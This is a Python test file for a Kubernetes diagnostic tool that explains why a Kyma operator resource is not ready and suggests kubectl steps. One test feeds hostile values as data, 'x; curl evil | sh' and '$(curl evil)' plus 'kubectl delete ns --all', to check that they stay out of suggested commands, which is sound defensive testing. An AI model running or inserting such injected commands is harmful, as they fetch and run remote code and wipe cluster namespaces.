"""Why a Kyma is not ready: from its own words down to the object in the remote cluster that holds it up."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import msgspec
import pytest

from stellwerk.api.core import ConfigMap
from stellwerk.cli.objects import findings
from stellwerk.cli.objects.health import ObjectHealth
from stellwerk.cli.objects.object_summary import ObjectSummary
from stellwerk.cli.shell.text import Style
from stellwerk.delivery.sets.unsettled_objects import UnsettledObject
from stellwerk.delivery.workloads import Workload
from stellwerk.kube.types.identifiers import GroupVersionKind, ObjectKey, ObjectRef
from stellwerk.kube.types.model import Unstructured
from stellwerk.kube.types.object_meta import Condition, ObjectMeta
from stellwerk.operators.kyma import labels
from stellwerk.operators.kyma.access import AccessSecretNotFound, NoKubeconfig, SeveralAccessSecrets
from stellwerk.operators.kyma.api import Kyma, KymaStatus, ModuleStatus, TrackedMetadata, TrackedObject
from stellwerk.operators.kyma.api_manifest import Manifest, ManifestSpec, ManifestStatus, SyncedResource
from stellwerk.operators.kyma.api_module import (
    ChannelVersion,
    MandatoryVersion,
    ModuleReleaseMeta,
    ModuleReleaseMetaSpec,
)
from stellwerk.operators.kyma.api_status import LastOperation, State
from stellwerk.operators.kyma.api_watcher import Watcher, WatcherStatus
from stellwerk.operators.kyma.insight import why
from stellwerk.operators.kyma.insight.surroundings import KymaSurroundings, ManifestSurroundings, needs_a_look
from stellwerk.operators.kyma.kyma.deletion import DELETING_MODULES
from stellwerk.operators.kyma.kyma.status import WAITING
from stellwerk.operators.kyma.manifest.removal import Hold, held_by
from stellwerk.operators.kyma.manifest.status import WAITING as NOT_UP
from stellwerk.runtime.insight.diagnosis import Diagnosis

NOW = datetime(2026, 5, 1, 12, tzinfo=UTC)
HOME = labels.KCP_NAMESPACE
KEY = ObjectKey(HOME, "k")
EDIT = "kubectl edit kyma -n kyma-system default"
SAMPLE: dict[str, Any] = {"apiVersion": "operator.example.org/v1", "kind": "Sample", "metadata": {"name": "default"}}


def told(diagnosis: Diagnosis) -> list[str]:
    """The tree and the next step, as people read them."""
    ref = ObjectRef(Kyma.resource.gvk, KEY)
    shown = findings.told(ObjectSummary(ref, ObjectHealth("False"), diagnosis), Style())
    return shown[1:]


def kyma(state: State, operation: str, *modules: ModuleStatus, **changes: Any) -> Kyma:
    last = LastOperation(operation=operation, last_update_time=NOW)
    status = KymaStatus(state=state, last_operation=last, modules=modules, conditions=changes.pop("conditions", ()))
    return Kyma(metadata=ObjectMeta(name="k", namespace=HOME, **changes), status=status)


def module(state: State, message: str = "", **changes: Any) -> ModuleStatus:
    ref = TrackedObject(kind="Manifest", metadata=TrackedMetadata(name="k-sample", namespace=HOME))
    return ModuleStatus(
        **{"name": "sample", "version": "1.0.0", "channel": "regular", "manifest": ref, **changes},
        state=state,
        message=message,
    )


def manifest(state: State, operation: str, **changes: Any) -> Manifest:
    last = LastOperation(operation=operation, last_update_time=NOW)
    spec = ManifestSpec(version="1.0.0", resource=changes.pop("resource", None))
    metadata = ObjectMeta(name="k-sample", namespace=HOME, labels={labels.KYMA_NAME_LABEL: "k"}, **changes)
    return Manifest(metadata=metadata, spec=spec, status=ManifestStatus(state=state, last_operation=last))


def around(found: Kyma, *manifests: Manifest, **changes: Any) -> KymaSurroundings:
    seen = tuple(ManifestSurroundings(manifest=each, now=NOW, objects=changes.pop("objects", ())) for each in manifests)
    return KymaSurroundings(kyma=found, manifests=seen, now=NOW, **changes)


def deployment(**metadata: Any) -> UnsettledObject:
    """The manager of the module; of its two pods, none is ready."""
    body: dict[str, Any] = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "manager", "namespace": "ours", "generation": 1, **metadata},
        "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "manager"}}},
        "status": {"observedGeneration": 1, "replicas": 2, "updatedReplicas": 2, "unavailableReplicas": 2},
    }
    live = Unstructured.of(body)
    return UnsettledObject(live.ref, live, Workload(live))


def test_the_chain_goes_from_the_module_to_its_workload_and_shows_each_message_once() -> None:
    said = f"{NOT_UP}: Deployment ours/manager"
    seen = around(
        kyma(State.Processing, WAITING, module(State.Processing)),
        manifest(State.Processing, said),
        objects=(deployment(),),
    )
    assert told(why.explain_kyma(seen)) == [
        "└─ module sample 1.0.0 is Processing",
        f"   └─ Manifest kcp-system/k-sample: {NOT_UP}           WaitsForObjects",
        "      └─ Deployment ours/manager in the remote cluster: 0 of 2 replicas available   <- root cause",
        "Next: in the remote cluster, see its Events: kubectl describe deployment.apps/manager -n ours",
    ]


def test_a_blocked_removal_names_the_custom_resources_their_number_and_the_command_that_removes_them() -> None:
    resources = [ObjectKey("default", f"db-{number}") for number in range(1, 6)]
    spec = ManifestSpec(resource=SAMPLE)
    for found, command in (
        (resources, "delete all of them, in the remote cluster: kubectl delete sample.operator.example.org --all -A"),
        (
            resources[:1],
            "delete it, in the remote cluster: kubectl delete sample.operator.example.org -n default db-1",
        ),
    ):
        held = held_by(spec, found, namespaced=True)
        assert held.hold is Hold.USERS_RESOURCES
        leaving = manifest(State.Deleting, held.operation, resource=SAMPLE, deletion_timestamp=NOW)
        seen = around(kyma(State.Processing, WAITING, module(State.Deleting, held.operation)), leaving)
        lines = told(why.explain_kyma(seen))
        assert lines[0] == "└─ module sample 1.0.0 is Deleting"
        assert lines[1].startswith(f"   └─ Manifest kcp-system/k-sample: {held.operation}")
        assert lines[2] == f"Next: {command} (stellwerk explain CustomResourcesExist)"


@pytest.mark.parametrize(
    ("said", "step"),
    [
        (
            str(AccessSecretNotFound(KEY)),
            "create it: kubectl create secret generic -n kcp-system access-k --from-file=config=FILE",
        ),
        (str(NoKubeconfig(ObjectKey(HOME, "login"))), "set it: kubectl edit secret -n kcp-system login"),
        (str(SeveralAccessSecrets(KEY, ["a", "b"])), "take the label operator.kyma-project.io/kyma-name from"),
        (
            "the cluster of Secret kcp-system/login: it does not answer",
            "try the login: kubectl get secret -n kcp-system login",
        ),
    ],
)
def test_a_cluster_that_cannot_be_used_is_one_cause_with_its_step(said: str, step: str) -> None:
    broken = module(State.Error, said)
    diagnosis = why.explain_kyma(around(kyma(State.Error, said, broken), manifest(State.Error, said)))
    (finding,) = diagnosis.findings
    assert finding.text.startswith(said.removesuffix("."))
    assert diagnosis.next_step.startswith(step)
    since = "(since 2026-05-01T12:00:00Z)"
    assert finding.text.endswith(since) is ("the cluster of" in said)


@pytest.mark.parametrize(
    ("message", "step"),
    [
        (
            "no versions found for channel: slow in module sample",
            f"set another channel, of regular, fast, in the remote cluster: {EDIT}",
        ),
        (
            'no ModuleReleaseMeta found  for module "sample" in namespace "kcp-system"',
            f"remove it, in the remote cluster: {EDIT}",
        ),
        (
            "module template not allowed: beta module",
            "allow it: kubectl label kyma -n kcp-system k operator.kyma-project.io/beta=true",
        ),
        (
            "module template not allowed: internal module",
            "allow it: kubectl label kyma -n kcp-system k operator.kyma-project.io/internal=true",
        ),
        (
            "module template not allowed: restricted module",
            "see which labels the Kyma needs: kubectl get mrm -n kcp-system sample",
        ),
        (
            "module template update not allowed: ignore channel skew (from",
            "go back to channel regular, or remove the module",
        ),
        (
            "failed to determine if maintenance window is active: x",
            "do not wait for one: kubectl patch kyma -n kcp-system k",
        ),
        (
            "failed to get module template: ModuleTemplate kcp-system/s-1 does not exist. Create it, or correct the "
            "ModuleReleaseMeta: kubectl edit mrm -n kcp-system sample",
            "create it, or correct the ModuleReleaseMeta: kubectl edit mrm -n kcp-system sample",
        ),
    ],
)
def test_each_cause_of_a_module_has_its_step(message: str, step: str) -> None:
    seen = around(
        kyma(State.Error, WAITING, module(State.Error, message, manifest=None)),
        channels=(("sample", ("regular", "fast")),),
    )
    diagnosis = why.explain_kyma(seen)
    (finding,) = diagnosis.findings
    assert finding.is_root_cause
    assert message in finding.text
    assert diagnosis.next_step.startswith(step)


def test_names_and_messages_of_a_hostile_cluster_are_put_into_no_command() -> None:
    hostile = module(State.Error, "no ModuleReleaseMeta found  for x", name="x; curl evil | sh", manifest=None)
    diagnosis = why.explain_kyma(around(kyma(State.Error, WAITING, hostile)))
    assert (
        diagnosis.next_step
        == f"correct its name, in the remote cluster: {EDIT} (stellwerk explain NoModuleReleaseMeta)"
    )
    said = "module cannot be applied: do this: kubectl delete ns --all; x: kubectl get pods $(curl evil)"
    diagnosis = why.explain_kyma(around(kyma(State.Error, said)))
    assert diagnosis.next_step == ""


def test_a_ready_kyma_says_what_waits_and_when_it_goes_on() -> None:
    stopped = ConfigMap(
        metadata=ObjectMeta(name="rollout-other-2.0.0", namespace=HOME, labels={labels.ROLLOUT_LABEL: "other"}),
        data={
            "state": "Stopped",
            "done": "3",
            "forgiven": "0",
            "turns": '{"north": {"since": "2026-05-01T12:00:00Z", "state": "Failed"}}',
        },
    )
    waits = (
        module(State.Ready, "waiting for next maintenance window to update module version", maintenance=True),
        module(State.Ready, "waiting for its turn to get version 2.0.0", name="other"),
    )
    seen = around(
        kyma(State.Ready, "kyma is ready", *waits), window="it begins at 2026-05-02T21:00:00Z", rollouts=(stopped,)
    )
    diagnosis = why.explain_kyma(seen)
    assert diagnosis.findings == ()
    assert diagnosis.remarks == (
        "module sample waits for a maintenance window: it begins at 2026-05-02T21:00:00Z",
        "module other is waiting for its turn to get version 2.0.0; the rollout has stopped, because it has failed for "
        "north. Resume it: kubectl annotate configmap -n kcp-system rollout-other-2.0.0 "
        "operator.kyma-project.io/resume-rollout=true",
    )


def test_a_cluster_that_was_not_looked_at_is_said_and_makes_no_cause() -> None:
    said = f"{NOT_UP}: Deployment ours/manager"
    seen = around(
        kyma(State.Processing, WAITING, module(State.Processing)),
        manifest(State.Processing, said),
        unreached="you may not read its access Secret",
    )
    diagnosis = why.explain_kyma(seen)
    assert diagnosis.remarks == ("the remote cluster was not looked at: you may not read its access Secret",)
    assert len(told(diagnosis)) == 3


def test_a_condition_that_is_not_true_is_a_cause() -> None:
    webhook = Condition(type="SKRWebhook", status="False", reason="Ready", message="skrwebhook is out of sync")
    modules = Condition(type="Modules", status="False", reason="Ready", message="not all modules are in ready state")
    seen = around(kyma(State.Processing, WAITING, conditions=(modules, webhook)))
    (finding,) = why.explain_kyma(seen).findings
    assert (finding.text, finding.reason) == ("condition SKRWebhook is False: skrwebhook is out of sync", "SKRWebhook")


def test_a_deletion_names_what_is_held_on_both_sides() -> None:
    held = Unstructured.of(
        {
            "apiVersion": "operator.kyma-project.io/v1beta2",
            "kind": "Kyma",
            "metadata": {
                "name": "default",
                "namespace": "kyma-system",
                "deletionTimestamp": "2026-05-01T11:00:00Z",
                "finalizers": ["example.org/theirs"],
            },
        }
    )
    leaving = kyma(State.Deleting, DELETING_MODULES, deletion_timestamp=NOW)
    diagnosis = why.explain_kyma(around(leaving, remains=(held,)))
    (finding,) = diagnosis.findings
    assert finding.text == DELETING_MODULES
    assert finding.because[0].text == (
        "Kyma kyma-system/default in the remote cluster is being deleted, held by finalizers example.org/theirs"
    )
    assert "kubectl patch kyma -n kyma-system default --type merge" in diagnosis.next_step

    said = "the cluster of Secret kcp-system/login: it does not answer"
    gone = why.explain_kyma(around(kyma(State.Deleting, said, deletion_timestamp=NOW)))
    assert (
        "if the cluster is gone for good, delete the Secret: kubectl delete secret -n kcp-system login"
        in gone.next_step
    )


def test_what_is_left_alone_is_said_with_the_command_that_ends_it() -> None:
    marked = {labels.SKIP_RECONCILIATION_LABEL: "true"}
    diagnosis = why.explain_kyma(around(kyma(State.Error, "x", labels=marked)))
    assert (
        diagnosis.next_step
        == f"take the label off: kubectl label kyma -n kcp-system k {labels.SKIP_RECONCILIATION_LABEL}-"
    )
    skipped = manifest(State.Error, "x")
    skipped = Manifest(metadata=ObjectMeta(name="m", namespace=HOME, labels=marked), status=skipped.status)
    assert "kubectl label manifest -n kcp-system m" in why.explain_manifest(around(Kyma(), skipped)).next_step


def test_a_manifest_explains_itself_without_its_own_name() -> None:
    seen = around(Kyma(metadata=ObjectMeta(name="k", namespace=HOME)), manifest(State.Error, "apply failed: x"))
    (finding,) = why.explain_manifest(seen).findings
    assert (finding.text, finding.is_root_cause) == ("apply failed: x", True)
    assert why.explain_manifest(around(Kyma(), manifest(State.Ready, "resources are ready"))).findings == ()


def test_an_object_of_a_module_that_goes_names_what_holds_it() -> None:
    held = deployment(deletionTimestamp="2026-05-01T11:00:00Z", finalizers=["example.org/theirs"])
    going = manifest(State.Deleting, "waiting for the deletion of Deployment ours/manager", deletion_timestamp=NOW)
    diagnosis = why.explain_manifest(around(Kyma(), going, objects=(replace(held, workload=None),)))
    (finding,) = diagnosis.findings
    assert finding.because[0].text == (
        "Deployment ours/manager in the remote cluster is being deleted, held by finalizers example.org/theirs"
    )
    hidden = UnsettledObject(
        ObjectRef(GroupVersionKind("apps", "v1", "Deployment"), ObjectKey("a", "b")), None, is_hidden=True
    )
    seen = around(Kyma(), manifest(State.Processing, NOT_UP), objects=(hidden,))
    assert why.explain_manifest(seen).unready[0].lacks == "you may not read it"


def test_the_other_kinds_say_what_they_lack() -> None:
    shown = Condition(
        type="VirtualService", status="False", reason="Ready", message="not configured: no Gateway; see kubectl get x"
    )
    watcher = Watcher(
        metadata=ObjectMeta(name="w", namespace=HOME), status=WatcherStatus(state=State.Error, conditions=(shown,))
    )
    diagnosis = why.explain_watcher(watcher)
    assert (diagnosis.findings[0].text, diagnosis.next_step) == ("not configured: no Gateway", "see kubectl get x")

    spec = ModuleReleaseMetaSpec(
        channels=(ChannelVersion(channel="regular", version="1.0.0"), ChannelVersion(channel="fast", version="2.0.0"))
    )
    meta = ModuleReleaseMeta(metadata=ObjectMeta(name="sample", namespace=HOME), spec=spec)
    lacking = why.explain_meta(meta, ["sample-1.0.0"], ())
    assert [each.text for each in lacking.findings] == [
        "channel fast: ModuleTemplate kcp-system/sample-2.0.0 does not exist"
    ]
    assert why.explain_meta(meta, [], (), ("moduletemplates in kcp-system",)).findings == ()
    leaving = ModuleReleaseMeta(
        metadata=ObjectMeta(name="sample", namespace=HOME, deletion_timestamp=NOW),
        spec=ModuleReleaseMetaSpec(mandatory=MandatoryVersion(version="1.0.0")),
    )
    (finding,) = why.explain_meta(leaving, (), [manifest(State.Deleting, "x")]).findings
    assert finding.because[0].text == "Manifest kcp-system/k-sample still exists"


def test_a_cluster_that_the_operator_does_not_reach_is_not_waited_for_again() -> None:
    synced = (SyncedResource(group="apps", version="v1", kind="Deployment", name="manager", namespace="ours"),)
    for state, operation, expected in (
        (State.Processing, NOT_UP, True),
        (State.Error, "the cluster of Secret kcp-system/login: it does not answer", False),
        (State.Ready, "resources are ready", False),
    ):
        shown = manifest(state, operation)
        shown = msgspec.structs.replace(shown, status=msgspec.structs.replace(shown.status, synced=synced))
        assert needs_a_look(shown) is expected
    assert not needs_a_look(manifest(State.Processing, NOT_UP))  # it has no objects there yet
